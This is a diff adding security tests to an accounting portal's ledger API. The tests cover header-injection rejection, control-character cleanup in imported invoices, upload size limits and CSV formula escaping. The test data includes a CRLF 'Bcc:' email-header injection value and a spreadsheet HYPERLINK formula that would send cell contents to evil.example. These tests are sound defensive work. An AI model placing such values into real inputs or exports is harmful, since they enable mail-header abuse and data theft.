@@ -1,8 +1,9 @@
 import { readFileSync } from 'node:fs';
-import type {
-  TLedgerEntry,
-  TLedgerImportDraft,
-  TLedgerSummary,
+import {
+  LEDGER_IMPORT_MAX_BYTES,
+  type TLedgerEntry,
+  type TLedgerImportDraft,
+  type TLedgerSummary,
 } from '@portal/contracts/ledger/ledger-schemas';
 import { and, eq, sql } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
@@ -11,6 +12,7 @@ import { accountInformations } from '../../db/schema/accounts.ts';
 import { accountDocuments } from '../../db/schema/documents.ts';
 import { auditLogs } from '../../db/schema/staff.ts';
 import { bearer, RELAXED_LIMITS } from '../../test/auth-helpers.ts';
+import { inPiecesCutInFile, multipartBody } from '../../test/multipart-helpers.ts';
 import { createCompany, createUserWithRole, type TFixtureUser } from '../../test/staff-fixtures.ts';
 import { buildTestApp, type TTestApp } from '../../test/test-app.ts';
 
@@ -133,6 +135,7 @@ describe('POST /api/accounts/{id}/ledger-entries', () => {
       [{ net_amount: -1 }, 'net_amount', 'tutar'],
       [{ date: '2025-02-29' }, 'date', 'tarih'],
       [{ counterparty_name: '' }, 'counterparty_name', 'karşı taraf'],
+      [{ counterparty_name: 'Ofis\r\nBcc: x@evil.example' }, 'counterparty_name', 'tek satır'],
     ];
     for (const [change, field, words] of cases) {
       const res = await send(customer, 'POST', entriesUrl(), { ...expense, ...change });
@@ -512,6 +515,18 @@ describe('POST /api/accounts/{id}/ledger-entries/import', () => {
     expect(confirmed).toMatchObject({ source: 'e_invoice', gross_amount: 180_000 });
   });
 
+  it('reads a party’s name broken over lines, or holding a control character, as one line', async () => {
+    const xml = EXPENSE_INVOICE.toString('utf8').replace(
+      '<cbc:Name>Ofis &amp; Kırtasiye Dünyası A.Ş.</cbc:Name>',
+      '<cbc:Name>Ofis &amp; Kırtasiye\n        Dünyası&#13;&#10;A.Ş.&#9;&#127;</cbc:Name>',
+    );
+    const res = await importFile(Buffer.from(xml));
+    expect(res.statusCode, res.body).toBe(200);
+    const draft: TLedgerImportDraft = res.json().result;
+    expect(draft.supplier.name).toBe('Ofis & Kırtasiye Dünyası A.Ş.');
+    expect(draft.entries[0]?.counterparty_name).toBe('Ofis & Kırtasiye Dünyası A.Ş.');
+  });
+
   it('proposes one income entry per KDV rate, keeping the invoice’s KDV when a kuruş off', async () => {
     const res = await importFile(MULTI_RATE_INVOICE);
     expect(res.statusCode, res.body).toBe(200);
@@ -617,6 +632,25 @@ describe('POST /api/accounts/{id}/ledger-entries/import', () => {
     expect(empty.statusCode).toBe(422);
     const big = await importFile(Buffer.concat([EXPENSE_INVOICE, Buffer.alloc(2 * 1024 * 1024, 0x20)]));
     expect(big.statusCode).toBe(413);
+  });
+
+  it('refuses a file over 2 MB with 413 even when its bytes arrive cut exactly at the limit', async () => {
+    const form = new FormData();
+    const big = Buffer.concat([EXPENSE_INVOICE, Buffer.alloc(3 * 1024 * 1024, 0x20)]);
+    form.append('file', new Blob([new Uint8Array(big)], { type: 'application/xml' }), 'fatura.xml');
+    const body = await multipartBody(form);
+    const res = await t.app.inject({
+      method: 'POST',
+      url: `${entriesUrl()}/import`,
+      headers: {
+        ...headersOf(customer),
+        'content-type': body.contentType,
+        'content-length': String(body.payload.length),
+      },
+      payload: inPiecesCutInFile(body.payload, LEDGER_IMPORT_MAX_BYTES),
+    });
+    expect(res.statusCode, res.body).toBe(413);
+    expect(Object.keys(res.json().errors)).toEqual(['file']);
   });
 
   it('reads an XML monthly document of the company named by document_id', async () => {
@@ -734,6 +768,34 @@ describe('GET /api/accounts/{id}/ledger-entries/export', () => {
       '2025-10-02,Expense,Şişli Ofis; Kırtasiye,9876543217,Kağıt ve toner,Office supplies,1234.56,20,246.91,1481.47,Yes,',
     );
     expect(lines).toHaveLength(3);
+  });
+
+  it('writes text that starts like a formula as text, with a quote before it, and keeps amounts numbers', async () => {
+    const url = entriesUrl(exportAccount);
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    await create(
+      { ...expense, date: '2025-12-01', counterparty_name: hyperlink, description: '@SUM(1+1)' },
+      customer,
+      url,
+    );
+    await create(
+      { ...expense, date: '2025-12-02', counterparty_name: '+90 Kırtasiye', description: '-2+3' },
+      customer,
+      url,
+    );
+    await create(
+      { ...expense, date: '2025-12-03', counterparty_name: 'A=B Ltd', description: 'x-y' },
+      customer,
+      url,
+    );
+    const res = await download('period=2025-12&format=csv', 'en');
+    expect(res.statusCode, res.body).toBe(200);
+    const lines = res.rawPayload.subarray(3).toString('utf8').trim().split(/\r?\n/);
+    expect(lines.slice(1)).toEqual([
+      `2025-12-01,Expense,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",9876543217,'@SUM(1+1),Office supplies,1500.00,20,300.00,1800.00,No,`,
+      "2025-12-02,Expense,'+90 Kırtasiye,9876543217,'-2+3,Office supplies,1500.00,20,300.00,1800.00,No,",
+      '2025-12-03,Expense,A=B Ltd,9876543217,x-y,Office supplies,1500.00,20,300.00,1800.00,No,',
+    ]);
   });
 
   it('writes an XLSX with real dates and lira numbers formatted #,##0.00', async () => {
